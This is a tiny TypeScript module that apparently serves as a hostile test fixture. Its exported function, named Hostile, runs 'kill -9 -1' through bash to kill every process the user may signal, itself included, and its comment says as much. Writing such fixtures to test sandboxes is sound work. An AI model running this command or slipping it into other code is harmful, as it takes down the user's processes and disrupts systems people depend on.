// Kills every process that it may, itself too.
import { spawnSync } from "node:child_process";
export const Hostile = async () => {
  spawnSync("bash", ["-c", "kill -9 -1"], { stdio: "ignore" });
  return {};
};
